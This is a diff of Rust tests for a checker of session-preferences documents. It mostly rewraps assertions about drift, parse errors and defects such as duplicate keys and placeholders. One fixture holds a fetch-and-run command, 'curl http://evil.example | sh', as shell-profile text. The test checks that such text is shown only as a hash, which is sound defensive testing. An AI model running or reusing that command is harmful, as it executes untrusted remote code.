@@ -35,7 +35,11 @@ fn every_changed_added_or_lost_field_is_drift() {
     let paths: Vec<_> = paths.iter().map(FieldPath::as_str).collect();
     assert_eq!(
         paths,
-        ["inputs.cloudWatchEncryptionEnabled", "inputs.cloudWatchLogGroupName", "inputs.newKey.deep.0"]
+        [
+            "inputs.cloudWatchEncryptionEnabled",
+            "inputs.cloudWatchLogGroupName",
+            "inputs.newKey.deep.0"
+        ]
     );
     assert_ne!(expected.meaning_hash(), found.meaning_hash());
 }
@@ -45,7 +49,10 @@ fn shell_text_is_shown_only_as_a_hash() {
     let found = read(r#"{"inputs":{"shellProfile":{"linux":"curl http://evil.example | sh"}}}"#);
     let lines = drift(&read("{}"), &found);
     let shown = lines.first().and_then(|drift| drift.found.clone()).unwrap();
-    assert!(shown.starts_with("shell text of 29 characters, sha256 "), "{shown}");
+    assert!(
+        shown.starts_with("shell text of 29 characters, sha256 "),
+        "{shown}"
+    );
 }
 
 #[test]
@@ -62,12 +69,21 @@ fn what_is_no_object_is_refused_with_what_it_is() {
         ("just words", "the content is a text, expected an object"),
         ("", "the content is null, expected an object"),
     ] {
-        assert_eq!(Preferences::parse(text).map_err(|e| e.to_string()), Err(message.to_owned()), "{text}");
+        assert_eq!(
+            Preferences::parse(text).map_err(|e| e.to_string()),
+            Err(message.to_owned()),
+            "{text}"
+        );
     }
-    let cut_off = Preferences::parse(r#"{"inputs": {"#).unwrap_err().to_string();
+    let cut_off = Preferences::parse(r#"{"inputs": {"#)
+        .unwrap_err()
+        .to_string();
     assert!(cut_off.contains("line 1"), "{cut_off}");
     let huge = format!("{{\"a\":\"{}\"}}", "x".repeat(70_000));
-    assert!(matches!(Preferences::parse(&huge), Err(PreferencesError::TooLong { .. })));
+    assert!(matches!(
+        Preferences::parse(&huge),
+        Err(PreferencesError::TooLong { .. })
+    ));
 }
 
 #[test]
@@ -80,14 +96,35 @@ fn documents_that_do_not_mean_what_they_seem_to_say_have_defects() {
     let head = r#""schemaVersion":"1.0","sessionType":"Standard_Stream""#;
     let input = FieldPath::input;
     for (inputs, defect) in [
-        (r#"{"s3BucketName":"a","s3BucketName":"b"}"#, Defect::DuplicateKey(input("s3BucketName"))),
-        (r#"{"S3BucketName":"a"}"#, Defect::CaseTwin(input("S3BucketName"))),
+        (
+            r#"{"s3BucketName":"a","s3BucketName":"b"}"#,
+            Defect::DuplicateKey(input("s3BucketName")),
+        ),
+        (
+            r#"{"S3BucketName":"a"}"#,
+            Defect::CaseTwin(input("S3BucketName")),
+        ),
         (r#"{"x":"a","X":"b"}"#, Defect::CaseTwin(input("X"))),
-        (r#"{"shellProfile":{"Linux":"a"}}"#, Defect::CaseTwin(input("shellProfile").child("Linux"))),
-        (r#"{"s3BucketName":"{{bucket}}"}"#, Defect::Placeholder(input("s3BucketName"))),
-        (r#"{"shellProfile":{"linux":"{{ssm:x}}"}}"#, Defect::Placeholder(input("shellProfile").child("linux"))),
-        (r#"{"s3BucketName":["a"]}"#, Defect::Shape(input("s3BucketName"))),
-        (r#"{"shellProfile":"text"}"#, Defect::Shape(input("shellProfile"))),
+        (
+            r#"{"shellProfile":{"Linux":"a"}}"#,
+            Defect::CaseTwin(input("shellProfile").child("Linux")),
+        ),
+        (
+            r#"{"s3BucketName":"{{bucket}}"}"#,
+            Defect::Placeholder(input("s3BucketName")),
+        ),
+        (
+            r#"{"shellProfile":{"linux":"{{ssm:x}}"}}"#,
+            Defect::Placeholder(input("shellProfile").child("linux")),
+        ),
+        (
+            r#"{"s3BucketName":["a"]}"#,
+            Defect::Shape(input("s3BucketName")),
+        ),
+        (
+            r#"{"shellProfile":"text"}"#,
+            Defect::Shape(input("shellProfile")),
+        ),
         ("[]", Defect::Shape(FieldPath::root().child("inputs"))),
     ] {
         let document = read(&format!(r#"{{{head},"inputs":{inputs}}}"#));
